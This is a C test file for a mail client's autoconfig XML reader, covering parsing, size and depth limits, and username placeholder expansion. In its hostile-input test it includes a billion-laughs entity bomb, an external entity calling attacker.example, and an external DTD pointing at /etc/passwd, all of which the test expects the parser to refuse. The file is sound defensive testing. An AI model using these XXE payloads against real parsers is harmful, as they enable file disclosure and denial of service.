/*
 * test-autoconfig.c: autoconfig.c, the config-v1.1.xml reader. A document
 * as a provider would publish it (two domains, IMAP with TLS and with
 * STARTTLS, POP3 that is skipped, two submission servers, its OAuth2
 * endpoints and pages in two languages) is read in full; every hostile or
 * broken one is refused with a reason and nothing kept: a billion laughs,
 * an external entity, an entity never declared, another root, no
 * provider, too much text, too deep, too large. The placeholders of
 * usernames and host names are filled in.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "autoconfig.h"
#include "buf.h"
#include "tap.h"
#include "xmalloc.h"

/* Written for this test in the published format (not taken from a
 * provider): what a mail provider serves at
 * https://autoconfig.example.org/mail/config-v1.1.xml. */
static const char published[] =
"<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
"<clientConfig version=\"1.1\">\n"
"  <emailProvider id=\"example.org\">\n"
"    <domain>example.org</domain>\n"
"    <domain>Example.NET</domain>\n"
"    <displayName>Example Mail Services</displayName>\n"
"    <displayShortName>Example</displayShortName>\n"
"    <incomingServer type=\"imap\">\n"
"      <hostname>imap.example.org</hostname>\n"
"      <port>993</port>\n"
"      <socketType>SSL</socketType>\n"
"      <authentication>OAuth2</authentication>\n"
"      <authentication>password-cleartext</authentication>\n"
"      <username>%EMAILADDRESS%</username>\n"
"    </incomingServer>\n"
"    <incomingServer type=\"pop3\">\n"
"      <hostname>pop.example.org</hostname>\n"
"      <port>995</port>\n"
"      <socketType>SSL</socketType>\n"
"    </incomingServer>\n"
"    <incomingServer type=\"imap\">\n"
"      <hostname> mail.%EMAILDOMAIN% </hostname>\n"
"      <port>143</port>\n"
"      <socketType>STARTTLS</socketType>\n"
"      <authentication>password-encrypted</authentication>\n"
"      <username>%EMAILLOCALPART%</username>\n"
"    </incomingServer>\n"
"    <outgoingServer type=\"smtp\">\n"
"      <hostname>smtp.example.org</hostname>\n"
"      <port>465</port>\n"
"      <socketType>SSL</socketType>\n"
"      <authentication>password-cleartext</authentication>\n"
"      <username>%EMAILADDRESS%</username>\n"
"      <addThisServer>true</addThisServer>\n"
"    </outgoingServer>\n"
"    <outgoingServer type=\"smtp\">\n"
"      <hostname>smtp.example.org</hostname>\n"
"      <port>587</port>\n"
"      <socketType>plain</socketType>\n"
"      <authentication>client-IP-address</authentication>\n"
"    </outgoingServer>\n"
"    <enable visiturl=\"https://www.example.org/settings/imap\">\n"
"      <instruction lang=\"de\">IMAP in den Einstellungen einschalten</instruction>\n"
"      <instruction lang=\"en\">Switch IMAP on in the settings</instruction>\n"
"    </enable>\n"
"    <documentation url=\"https://help.example.org/mail-clients\">\n"
"      <descr lang=\"en\">Setting up a mail program</descr>\n"
"      <descr lang=\"fr\">Configurer un logiciel de messagerie</descr>\n"
"    </documentation>\n"
"    <documentation url=\"https://help.example.org/other\">\n"
"      <descr>Not kept: the first documentation counts</descr>\n"
"    </documentation>\n"
"    <webMail><loginPage url=\"https://webmail.example.org/\"/></webMail>\n"
"  </emailProvider>\n"
"  <oAuth2>\n"
"    <issuer>login.example.org</issuer>\n"
"    <scope>mail offline_access</scope>\n"
"    <authURL>https://login.example.org/authorize</authURL>\n"
"    <tokenURL>https://login.example.org/token</tokenURL>\n"
"  </oAuth2>\n"
"</clientConfig>\n";

static void
test_published(void)
{
	struct autoconfig	*ac = NULL;
	char			*cause = NULL;
	int			 rc;

	rc = autoconfig_parse(published, strlen(published), &ac, &cause);
	TAP_OK(rc == 0 && ac != NULL, "a published document is read (%s)",
	    cause != NULL ? cause : "no error");
	if (rc != 0)
		return;
	TAP_STR(ac->id, "example.org", "its provider id");
	TAP_STR(ac->name, "Example Mail Services", "its display name");
	TAP_STR(ac->short_name, "Example", "... and its short one");
	TAP_OK(ac->ndomains == 2, "two domains");
	TAP_OK(autoconfig_has_domain(ac, "example.net") &&
	    autoconfig_has_domain(ac, "EXAMPLE.org") &&
	    !autoconfig_has_domain(ac, "example.com"),
	    "domains match without regard to case, and only those");
	TAP_OK(ac->nservers == 4 && ac->dropped == 0,
	    "two IMAP and two SMTP servers kept, POP3 skipped");
	TAP_OK(ac->servers[0].kind == AUTOCONFIG_IMAP &&
	    strcmp(ac->servers[0].hostname, "imap.example.org") == 0 &&
	    ac->servers[0].port == 993 &&
	    ac->servers[0].socket == AUTOCONFIG_SOCKET_SSL &&
	    ac->servers[0].auth == (AUTOCONFIG_AUTH_OAUTH2 |
	    AUTOCONFIG_AUTH_PASSWORD) &&
	    strcmp(ac->servers[0].username, "%EMAILADDRESS%") == 0,
	    "the first IMAP server: host, port, TLS, both methods, login");
	TAP_OK(ac->servers[1].kind == AUTOCONFIG_IMAP &&
	    strcmp(ac->servers[1].hostname, "mail.%EMAILDOMAIN%") == 0 &&
	    ac->servers[1].port == 143 &&
	    ac->servers[1].socket == AUTOCONFIG_SOCKET_STARTTLS &&
	    ac->servers[1].auth == AUTOCONFIG_AUTH_PASSWORD_HASH,
	    "the second, with STARTTLS, its host name trimmed");
	TAP_OK(ac->servers[2].kind == AUTOCONFIG_SMTP &&
	    ac->servers[2].port == 465 &&
	    ac->servers[2].socket == AUTOCONFIG_SOCKET_SSL,
	    "the first submission server, in the order given");
	TAP_OK(ac->servers[3].socket == AUTOCONFIG_SOCKET_PLAIN &&
	    ac->servers[3].auth == AUTOCONFIG_AUTH_OTHER &&
	    ac->servers[3].username == NULL,
	    "the second: plain, by client address, no login");
	TAP_STR(ac->enable.url, "https://www.example.org/settings/imap",
	    "the page that switches IMAP on");
	TAP_STR(ac->enable.text, "Switch IMAP on in the settings",
	    "... its instruction in English");
	TAP_STR(ac->documentation.url, "https://help.example.org/mail-clients",
	    "the first documentation");
	TAP_STR(ac->documentation.text, "Setting up a mail program",
	    "... its English description");
	TAP_OK(ac->app_password.url == NULL, "no app password page");
	TAP_STR(ac->oauth2.issuer, "login.example.org", "the OAuth2 issuer");
	TAP_STR(ac->oauth2.scope, "mail offline_access", "... its scope");
	TAP_STR(ac->oauth2.auth_url, "https://login.example.org/authorize",
	    "... its authorization endpoint");
	TAP_STR(ac->oauth2.token_url, "https://login.example.org/token",
	    "... its token endpoint");
	TAP_OK(ac->oauth2.device_url == NULL && ac->oauth2.client_id == NULL,
	    "... no device endpoint, no client ID");
	autoconfig_free(ac);
}

/* steedmail's own elements, and names that come from elsewhere. */
static void
test_additions(void)
{
	static const char doc[] =
	    "<clientConfig><emailProvider id=\"mail.test\">"
	    "<domain>mail.test</domain><displayShortName>Test</displayShortName>"
	    "<incomingServer type=\"IMAP\"><hostname>imap.mail.test</hostname>"
	    "<port>99999</port><socketType>tls</socketType></incomingServer>"
	    "<appPassword visiturl=\"https://mail.test/apps\">"
	    "<instruction>Make one</instruction></appPassword>"
	    "<oAuth2><issuer>id.mail.test</issuer>"
	    "<deviceAuthURL>https://id.mail.test/device</deviceAuthURL>"
	    "<clientID>steedmail-test</clientID>"
	    "<clientSecret>not-secret</clientSecret></oAuth2>"
	    "</emailProvider><emailProvider id=\"second\">"
	    "<domain>second.test</domain></emailProvider></clientConfig>";
	static const char only_id[] =
	    "<clientConfig><emailProvider id=\"only-id\"/></clientConfig>";
	struct autoconfig	*ac = NULL;
	char			*cause = NULL;

	if (autoconfig_parse(doc, strlen(doc), &ac, &cause) != 0) {
		TAP_OK(0, "steedmail's additions are read (%s)", cause);
		free(cause);
		return;
	}
	TAP_STR(ac->name, "Test", "no displayName: the short name");
	TAP_STR(ac->short_name, "Test", "... which is the short name too");
	TAP_OK(ac->ndomains == 1 && !autoconfig_has_domain(ac, "second.test"),
	    "only the first provider is read");
	TAP_OK(ac->nservers == 1 && ac->servers[0].port == 0 &&
	    ac->servers[0].socket == AUTOCONFIG_SOCKET_SSL,
	    "a port out of range is none; \"tls\" and \"IMAP\" are understood");
	TAP_STR(ac->app_password.url, "https://mail.test/apps",
	    "<appPassword>: its page");
	TAP_STR(ac->app_password.text, "Make one", "... and its instruction");
	TAP_STR(ac->oauth2.device_url, "https://id.mail.test/device",
	    "<oAuth2> inside the provider: the device endpoint");
	TAP_STR(ac->oauth2.client_id, "steedmail-test", "... the client ID");
	TAP_STR(ac->oauth2.client_secret, "not-secret", "... its secret");
	autoconfig_free(ac);

	if (autoconfig_parse(only_id, strlen(only_id), &ac, &cause) == 0) {
		TAP_STR(ac->name, "only-id", "no name at all: the id");
		TAP_STR(ac->short_name, "only-id", "... short too");
		TAP_OK(ac->nservers == 0 && ac->ndomains == 0,
		    "... no servers, no domains: read, for the caller to judge");
		autoconfig_free(ac);
	} else {
		TAP_OK(0, "a provider with only an id (%s)", cause);
		free(cause);
	}
}

/* doc is refused, with a cause holding want. */
static void
refused(const char *doc, size_t len, const char *want, const char *what)
{
	struct autoconfig	*ac = NULL;
	char			*cause = NULL;
	int			 rc;

	rc = autoconfig_parse(doc, len, &ac, &cause);
	TAP_OK(rc == -1 && ac == NULL && cause != NULL &&
	    strstr(cause, want) != NULL, "%s: refused (%s)", what,
	    cause != NULL ? cause : "no cause");
	if (rc == 0)
		autoconfig_free(ac);
	free(cause);
}

static void
test_hostile(void)
{
	static const char laughs[] =
	    "<?xml version=\"1.0\"?>\n"
	    "<!DOCTYPE clientConfig [\n"
	    " <!ENTITY a \"haha\">\n"
	    " <!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">\n"
	    " <!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\">\n"
	    " <!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">\n"
	    " <!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\">\n"
	    " <!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\">\n"
	    " <!ENTITY g \"&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;\">\n"
	    " <!ENTITY h \"&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;\">\n"
	    " <!ENTITY i \"&h;&h;&h;&h;&h;&h;&h;&h;&h;&h;\">\n"
	    "]>\n"
	    "<clientConfig><emailProvider id=\"x\"><displayName>&i;"
	    "</displayName></emailProvider></clientConfig>\n";
	static const char external[] =
	    "<?xml version=\"1.0\"?>\n"
	    "<!DOCTYPE clientConfig [<!ENTITY ext SYSTEM "
	    "\"https://attacker.example/steal\">]>\n"
	    "<clientConfig><emailProvider id=\"x\"><domain>&ext;</domain>"
	    "</emailProvider></clientConfig>\n";
	static const char external_dtd[] =
	    "<!DOCTYPE clientConfig SYSTEM \"file:///etc/passwd\">"
	    "<clientConfig/>";
	static const char undeclared[] =
	    "<clientConfig><emailProvider id=\"x\"><domain>&ext;</domain>"
	    "</emailProvider></clientConfig>";
	struct buf	 b;
	int		 i;

	refused(laughs, strlen(laughs), "DTD", "a billion laughs");
	refused(external, strlen(external), "DTD", "an external entity");
	refused(external_dtd, strlen(external_dtd), "DTD",
	    "an external DTD");
	refused(undeclared, strlen(undeclared), "not well-formed",
	    "an entity never declared");
	refused("<html><body>Not found</body></html>", 35, "root element is "
	    "<html>", "an HTML page");
	refused("<clientConfig version=\"1.1\"/>", 29, "no <emailProvider>",
	    "no provider");
	refused("", 0, "not well-formed", "nothing");
	refused("<clientConfig><emailProvider>", 29, "not well-formed",
	    "a document cut short");
	refused("<clientConfig>\0<emailProvider/></clientConfig>", 46,
	    "not well-formed", "a NUL byte");

	buf_init(&b);
	buf_adds(&b, "<clientConfig><emailProvider><domain>");
	for (i = 0; i < 5000; i++)
		buf_addc(&b, 'a');
	buf_adds(&b, "</domain></emailProvider></clientConfig>");
	refused(b.data, b.len, "longer than 4096", "5000 bytes of text");

	buf_reset(&b);
	buf_adds(&b, "<clientConfig><emailProvider>");
	for (i = 0; i < 40; i++)
		buf_adds(&b, "<x>");
	refused(b.data, b.len, "deeper than 32", "40 levels of elements");

	buf_reset(&b);
	buf_adds(&b, "<clientConfig><emailProvider><!--");
	while (b.len <= AUTOCONFIG_MAX)
		buf_adds(&b, "padding padding padding ");
	buf_adds(&b, "--></emailProvider></clientConfig>");
	refused(b.data, b.len, "more than", "a document over 64 kB");
	buf_free(&b);
}

/* 100 servers: the first AUTOCONFIG_SERVERS kept, the others counted. */
static void
test_many(void)
{
	struct autoconfig	*ac = NULL;
	struct buf		 b;
	char			*cause = NULL;
	int			 i;

	buf_init(&b);
	buf_adds(&b, "<clientConfig><emailProvider id=\"many\">");
	for (i = 0; i < 100; i++)
		buf_addf(&b, "<incomingServer type=\"imap\"><hostname>h%d"
		    "</hostname><port>993</port></incomingServer>", i);
	buf_adds(&b, "</emailProvider></clientConfig>");
	if (autoconfig_parse(b.data, b.len, &ac, &cause) == 0) {
		TAP_OK(ac->nservers == AUTOCONFIG_SERVERS &&
		    ac->dropped == 100 - AUTOCONFIG_SERVERS &&
		    strcmp(ac->servers[AUTOCONFIG_SERVERS - 1].hostname,
		    "h7") == 0, "100 servers: the first %d kept, %zu counted",
		    AUTOCONFIG_SERVERS, ac->dropped);
		autoconfig_free(ac);
	} else {
		TAP_OK(0, "100 servers (%s)", cause);
		free(cause);
	}
	buf_free(&b);
}

static void
expand(const char *text, const char *want)
{
	char	*got = autoconfig_expand(text, "Some.One@Example.ORG");

	if (want == NULL)
		TAP_OK(got == NULL, "\"%s\" is not filled in", text);
	else
		TAP_STR(got, want, "\"%s\" filled in", text);
	free(got);
}

static void
test_expand(void)
{
	char	*got;

	expand("%EMAILADDRESS%", "Some.One@Example.ORG");
	expand("%EMAILLOCALPART%", "Some.One");
	expand("imap.%EMAILDOMAIN%", "imap.Example.ORG");
	expand("%EMAILLOCALPART%+mail@%EMAILDOMAIN%",
	    "Some.One+mail@Example.ORG");
	expand("plain-login", "plain-login");
	expand("%REALNAME%", NULL);
	expand("100%", NULL);
	got = autoconfig_expand("%EMAILADDRESS%", "no-at-sign");
	TAP_OK(got == NULL, "an address without '@': nothing");
	free(got);
}

int
main(void)
{
	test_published();
	test_additions();
	test_hostile();
	test_many();
	test_expand();
	return TAP_DONE();
}
